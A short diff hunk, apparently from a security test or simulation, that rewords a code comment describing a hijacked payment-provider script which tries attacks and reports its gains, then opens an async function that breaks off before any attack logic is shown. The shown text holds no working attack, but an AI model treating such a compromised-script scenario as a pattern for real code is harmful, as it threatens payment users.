@@ -1,4 +1,4 @@
-// A payment provider's script that was taken over: it tries what could bring it something, and tells what it has got.
+// A hijacked script of the payment provider: it tries every useful attack and reports its gains.
 ;(async () => {
   const attempt = (what) => {
     try {
